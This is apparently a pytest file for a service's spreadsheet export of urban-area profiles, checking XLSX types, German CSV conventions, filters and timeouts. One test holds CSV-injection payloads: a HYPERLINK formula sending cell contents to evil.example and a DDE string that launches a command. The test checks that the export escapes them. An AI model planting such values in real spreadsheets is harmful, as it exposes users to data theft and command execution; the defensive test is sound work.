"""The list as a table: XLSX and CSV, read back by other libraries than the ones that wrote them."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from sqlalchemy import text

from tests.factories import make_area, make_municipality
from tests.web.choices import CHOICES, all_areas, expected, filters_of, named

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DANGEROUS = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def workbook(client, query=""):
    answer = client.get(f"/profiles?f=xlsx{query}")
    assert (answer.status_code, answer.mimetype) == (200, XLSX)
    assert answer.headers["Cache-Control"] == "no-store"
    return openpyxl.load_workbook(io.BytesIO(answer.data))


def sheet_rows(sheet):
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


def csv_rows(client, query=""):
    answer = client.get(f"/profiles?f=csv{query}")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    text_ = answer.data.decode("utf-8")
    assert text_.startswith("\ufeff"), "Excel reads UTF-8 only where this mark says so"
    assert text_.count("\n") == text_.count("\r\n")
    return list(csv.DictReader(io.StringIO(text_.removeprefix("\ufeff"), newline=""), delimiter=";"))


def ids(rows, title="Adresse des Profils"):
    return [row[title].rpartition("/")[2] for row in rows]


@pytest.mark.parametrize("choice", CHOICES[1::4], ids=named)
def test_both_tables_have_the_chosen_areas_in_the_chosen_order(client, choice):
    query = filters_of(choice).query_string(("sort", "-begin")).replace("?", "&")
    found = ids(csv_rows(client, query))
    assert set(found) == expected(client, choice)
    assert ids(sheet_rows(workbook(client, query).active)) == found
    starts = {area["area_id"]: area["start_year"] for area in all_areas(client)}
    known = [starts[area_id] for area_id in found if starts[area_id] is not None]
    assert known == sorted(known, reverse=True)


def test_the_workbook_holds_texts_numbers_and_dates_as_such(client):
    book = workbook(client)
    sheet = book.worksheets[0]
    assert (sheet.title, sheet.freeze_panes) == ("Stadtteilprofile", "B2")
    assert sheet.auto_filter.ref
    rows = {row["Name"]: row for row in sheet_rows(sheet)}
    assert len(rows) == len({area["name"] for area in all_areas(client)})
    row = rows["Beispielgebiet Südviertel"]
    assert (row["AGS"], row["Gemeinde"], row["Status"]) == ("05999001", "Musterstadt", "abgeschlossen")
    assert row["Beginn"] == dt.datetime(2001, 6, 15)
    assert (row["Ende"], row["Ende (Jahr)"]) == (dt.datetime(2015, 12, 31), 2015)
    assert row["Fläche (ha)"] == pytest.approx(67.3, abs=0.1)
    assert row["Grundlage der Abgrenzung"] == "amtliche Abgrenzung"
    assert "Soziale Stadt" in row["Programme"]
    assert not {"geom", "geometry", "Geometrie", "WKT"} & set(row)
    unknown = rows["Clarenberg"]
    assert unknown["Status"] == "Status nicht belegt"
    assert unknown["Fläche (ha)"] is None
    for column in sheet.iter_cols(min_row=2):
        assert {cell.data_type for cell in column if cell.value is not None} <= {"s", "n", "d"}
    notes = dict(book["Info"].iter_rows(values_only=True))
    assert {"Quelle", "Abgerufen am", "Lizenz der Zusammenstellung", "Auswahl"} <= set(notes)
    assert notes["Auswahl"] == "alle Gebiete"
    assert dt.datetime.strptime(notes["Abgerufen am"], "%d.%m.%Y").date() <= dt.date.today()


def test_a_table_of_a_year_says_so_in_a_column_and_among_the_notes(client):
    book = workbook(client, "&year=2008&status=ongoing&programme=SOS&lang=en")
    states = {row["Status in 2008"] for row in sheet_rows(book.worksheets[0])}
    assert states == {"ongoing"}
    notes = dict(book["Info"].iter_rows(values_only=True))
    assert "State in the year: 2008" in notes["Choice"]
    assert "Socially Integrative City" in notes["Choice"]
    assert notes["Address of the list"].endswith("/profiles?status=ongoing&programme=SOS&year=2008")


def test_the_csv_is_what_a_german_excel_expects(client):
    answer = client.get("/profiles?f=csv")
    today = dt.date.today().isoformat()
    assert answer.headers["Content-Disposition"] == f'attachment; filename="programmgebiete-{today}.csv"'
    rows = {row["Name"]: row for row in csv_rows(client)}
    row = rows["Beispielgebiet Südviertel"]
    assert row["AGS"] == '="05999001"', "a number would lose its zero"
    assert (row["Beginn"], row["Ende"]) == ("15.06.2001", "31.12.2015")
    assert row["Fläche (ha)"].startswith("67,")
    assert row["Status"] == "abgeschlossen"
    assert row["Quelle"]
    assert row["Abgerufen am"] == f"{dt.date.today():%d.%m.%Y}"
    assert None not in row, "a line is longer than the head"
    assert rows["Clarenberg"]["Fläche (ha)"] == ""


def test_what_looks_like_a_formula_stays_text(make_app, make_settings, database, engine):
    with engine.begin() as connection:
        ags = make_municipality(connection, name="@SUM(1+1)*cmd|' /C calc'!A0")
        make_area(connection, area_id="evil", name=DANGEROUS, ags=ags, concept="-2+3;x\r\ny")
        connection.execute(text("UPDATE registry.boundary SET source = '+49 231 1', licence = E'\\t=1'"))
    client = make_app(make_settings(database)).test_client()
    (row,) = csv_rows(client)
    assert row["Name"] == f"'{DANGEROUS}"
    assert row["Gemeinde"].startswith("'@")
    assert row["Konzept"] == "'-2+3;x\r\ny"
    assert row["Quelle der Abgrenzung"] == "'+49 231 1"
    (row,) = sheet_rows(workbook(client).active)
    assert row["Name"] == DANGEROUS
    cells = [cell for line in workbook(client).active.iter_rows() for cell in line]
    assert all(cell.data_type != "f" for cell in cells)


def test_a_table_without_areas_has_its_head(client):
    assert csv_rows(client, "&q=nirgendwo") == []
    assert sheet_rows(workbook(client, "&q=nirgendwo").active) == []


def test_who_waits_too_long_for_a_table_is_told_to_come_again(client, monkeypatch):
    from geo_service.web import area_export

    monkeypatch.setattr(area_export, "PATIENCE_S", 0.05)
    with area_export._turn():
        answer = client.get("/profiles?f=csv")
    assert answer.status_code == 503
    assert int(answer.headers["Retry-After"]) > 0
    assert client.get("/profiles?f=csv").status_code == 200
